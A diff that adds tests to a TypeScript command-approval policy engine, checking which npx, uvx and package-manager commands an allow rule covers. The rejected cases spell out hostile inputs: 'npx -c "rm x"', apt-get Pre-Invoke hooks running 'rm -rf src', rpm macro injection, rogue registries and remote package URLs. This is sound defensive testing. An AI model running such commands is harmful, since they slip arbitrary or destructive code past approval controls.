@@ -178,6 +178,106 @@ test.each([
   expect(evaluate(everything, facts, at).verdict).not.toBe('auto');
 });
 
+test.each([
+  ['npx tsc *', 'npx tsc --noEmit'],
+  ['npx tsc *', 'npx -y tsc --noEmit'],
+  ['npx tsc *', 'timeout 60 npx --no-install tsc --noEmit'],
+  ['npx *', 'npx @biomejs/biome check'],
+  ['npx tsc@5 *', 'npx tsc@5 --noEmit'],
+  ['npx vitest run', 'npx vitest run'],
+  ['pipx run black *', 'pipx run black .'],
+  ['uvx ruff *', 'uvx ruff check'],
+  ['cd web && npx tsc', 'cd web && npx tsc'],
+])('a rule for %s covers %s', (rule, command) => {
+  expect(runs(rule, command)).toBe(true);
+});
+
+test.each([
+  ['tsc *', 'npx tsc --noEmit'],
+  ['* tsc *', 'npx tsc --noEmit'],
+  ['npx tsc *', 'npx tsc@next --noEmit'],
+  ['npx tsc *', 'npx -p evil tsc'],
+  ['npx tsc *', 'npx --package=evil tsc'],
+  ['npx tsc *', 'npx --registry=https://a.example tsc'],
+  ['npx tsc *', 'npx eslint src'],
+  ['npx tsc *', 'npx tsc && npx eslint src'],
+  ['npx tsc *', 'npx -c "tsc; rm x"'],
+  ['npx *', 'npx -c "rm x"'],
+  ['npx *', 'npx vitest --config /tmp/x'],
+  ['npx *', 'npx rimraf -g src'],
+  ['npx tsc *', 'sudo npx tsc'],
+  ['npx tsc *', 'cd web && npx tsc'],
+  ['npx tsc *', 'bunx tsc'],
+  ['uvx ruff *', 'uvx --from evil ruff check'],
+])('a rule for %s does not cover %s', (rule, command) => {
+  expect(runs(rule, command)).toBe(false);
+});
+
+test.each([
+  "apt-get -o APT::Update::Pre-Invoke::='rm -rf src' update",
+  'apt-get install -o DPkg::Pre-Invoke::=./x git',
+  'apt-get install -oDPkg::Pre-Invoke::=./x git',
+  'apt-get -c apt.conf install git',
+  'apt-get install ./evil.deb',
+  'dpkg --pre-invoke=./x -i a.deb',
+  'dpkg -i --root=/tmp/x a.deb',
+  'dnf --setopt=reposdir=. install git',
+  'yum -c x install git',
+  'apk add --allow-untrusted git',
+  'apk -X https://a.example add git',
+  "rpm -D '_x %(./x)' -i a.rpm",
+  "rpm -i --pipe './x' a.rpm",
+  'pacman --config x -S git',
+  'pacman -U https://a.example/x.pkg.tar.zst',
+  'gem install -i /tmp/x rake',
+  'uv tool run ruff',
+])(
+  'a rule for installing does not cover what a package manager runs or installs elsewhere: %s',
+  (command) => {
+    expect(runs('@install', command)).toBe(false);
+  },
+);
+
+test.each([
+  'apt-get update -qq && apt-get install -yqq --no-install-recommends git curl=8.5',
+  'DEBIAN_FRONTEND=noninteractive apt-get install -y git',
+  'dpkg -i a.deb',
+  'dnf install -y git',
+  'apk add --no-cache --virtual .build-deps gcc musl-dev',
+  'rpm -ivh a.rpm',
+  'pacman -Syu --noconfirm git',
+  'gem install bundler -v 2.4 -N',
+  'corepack enable',
+  'corepack prepare pnpm@9 --activate',
+  'uv tool install ruff',
+])('a rule for installing covers %s', (command) => {
+  expect(runs('@install', command)).toBe(true);
+});
+
+test.each([
+  'PAGER=cat GIT_PAGER=cat git log',
+  'GIT_TERMINAL_PROMPT=0 git log',
+  'PYTHONUNBUFFERED=1 RUST_BACKTRACE=full cargo test',
+  'export RUST_BACKTRACE=1; cargo test',
+])('a rule covers a program with a variable that changes nothing it runs: %s', (command) => {
+  const rules = policy('auto:\n  - bash_run(@git-readonly)\n  - bash_run(cargo test)\n');
+  const facts = { tool: 'bash_run', kind: 'execute' as const };
+  const at = { pathResolver: examplePathResolver, untrusted: false, sandboxed: true };
+  expect(evaluate(rules, { ...facts, command }, at).verdict).toBe(
+    command.includes('export') ? 'requireApproval' : 'auto',
+  );
+  expect(evaluate(rules, { ...facts, command: command.replaceAll('=', '=./') }, at).verdict).toBe(
+    'requireApproval',
+  );
+});
+
+function runs(rule: string, command: string): boolean {
+  const rules = policy(`auto:\n  - bash_run(${JSON.stringify(rule).slice(1, -1)})\n`);
+  const facts = { tool: 'bash_run', kind: 'execute' as const, command };
+  const at = { pathResolver: examplePathResolver, untrusted: false, sandboxed: true };
+  return evaluate(rules, facts, at).verdict === 'auto';
+}
+
 const clients = loadPolicy(
   `version: 1
 mode: ask
